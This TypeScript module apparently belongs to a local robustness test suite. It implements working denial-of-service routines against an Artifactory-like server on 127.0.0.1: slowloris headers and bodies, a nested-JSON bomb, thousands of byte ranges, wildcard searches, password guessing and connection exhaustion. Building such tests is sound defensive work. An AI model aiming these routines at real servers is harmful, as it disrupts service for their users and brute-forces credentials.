import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';

/** What is attacked, and who asks. */
export interface Target {
  readonly port: number;
  /** header line of a user who may read, with its line end */
  readonly login: string;
  /** address of a file of some hundred KiB, and of one in a repository to search */
  readonly file: string;
}

/** One way to hurt a node. It goes on until `signal` aborts; whatever becomes of its connections is its own business. */
export interface Attack {
  readonly name: string;
  run(target: Target, connections: number, signal: AbortSignal): Promise<void>;
}

/** The hostile ones come from an address of their own, as they would. */
const hostileAddress = '127.0.0.2';

/** A connection that is closed when it is over; failures of it are what the attack is about. */
function open({ port }: Target, signal: AbortSignal): Socket {
  const socket = connect({ port, host: '127.0.0.1', localAddress: hostileAddress });
  socket.on('error', () => undefined);
  signal.addEventListener('abort', () => { socket.destroy(); }, { once: true });
  return socket;
}

/** Keeps up so many connections, each of which does the same until it ends; a new one takes its place. */
async function keepUp(target: Target, connections: number, signal: AbortSignal, one: (socket: Socket) => Promise<void>): Promise<void> {
  await Promise.all(Array.from({ length: connections }, async () => {
    while (!signal.aborted) {
      const socket = open(target, signal);
      await Promise.race([one(socket), closed(socket)]).catch(() => undefined);
      socket.destroy();
      await pause(20);
    }
  }));
}

function closed(socket: Socket): Promise<void> {
  return new Promise((resolve) => { socket.once('close', () => { resolve(); }); });
}

/** Writes and waits until the other side has taken it. */
function written(socket: Socket, bytes: string): Promise<void> {
  return new Promise((resolve) => { socket.write(bytes, () => { resolve(); }); });
}

/** Asks again and again over one connection. */
const asking = (request: (target: Target) => string, { reading = true } = {}): Attack['run'] => (target, connections, signal) => keepUp(target, connections, signal, async (socket) => {
  if (!reading) socket.pause();
  while (!socket.destroyed) {
    await written(socket, request(target));
    if (reading) await once(socket, 'data');
    await pause(5);
  }
});

const get = ({ login }: Target, address: string, more = ''): string => `GET ${address} HTTP/1.1\r\nHost: x\r\n${login}${more}\r\n`;
const nested = '['.repeat(700_000);
const ranges = Array.from({ length: 4000 }, (_, index) => `${String(index * 2)}-${String(index * 2)}`).join(',');

export const attacks: readonly Attack[] = [
  {
    name: 'headers that trickle',
    run: (target, connections, signal) => keepUp(target, connections, signal, async (socket) => {
      await written(socket, 'GET / HTTP/1.1\r\nHost: x\r\n');
      while (!socket.destroyed) {
        await written(socket, 'X-A: b\r\n');
        await pause(100);
      }
    }),
  },
  {
    name: 'headers without an end',
    run: (target, connections, signal) => keepUp(target, connections, signal, async (socket) => {
      await written(socket, 'GET / HTTP/1.1\r\n');
      while (!socket.destroyed) await written(socket, `X-A: ${'b'.repeat(8000)}\r\n`);
    }),
  },
  {
    name: 'bodies that trickle',
    run: (target, connections, signal) => keepUp(target, connections, signal, async (socket) => {
      await written(socket, `PUT ${target.file} HTTP/1.1\r\nHost: x\r\n${target.login}Content-Length: 1000000\r\n\r\n`);
      while (!socket.destroyed) {
        await written(socket, 'x');
        await pause(100);
      }
    }),
  },
  { name: 'deep JSON', run: asking(({ login }) => `PUT /artifactory/api/repositories/x HTTP/1.1\r\nHost: x\r\n${login}Content-Type: application/json\r\nContent-Length: ${String(nested.length)}\r\n\r\n${nested}`) },
  { name: 'thousands of ranges', run: asking((target) => get(target, target.file, `Range: bytes=${ranges.slice(0, 20_000)}\r\n`)) },
  { name: 'answers that nobody reads', run: asking((target) => get(target, target.file), { reading: false }) },
  { name: 'expensive searches', run: asking((target) => get(target, '/artifactory/api/search/artifact?name=*a*e*&repos=*')) },
  { name: 'guesses at passwords', run: asking(() => `GET /artifactory/api/repositories HTTP/1.1\r\nHost: x\r\nAuthorization: Basic ${Buffer.from(`user${String(Math.random())}:wrong`).toString('base64')}\r\n\r\n`) },
  {
    name: 'connections without a word',
    // far more than the node takes
    run: (target, connections, signal) => keepUp(target, connections * 4, signal, (socket) => closed(socket)),
  },
];
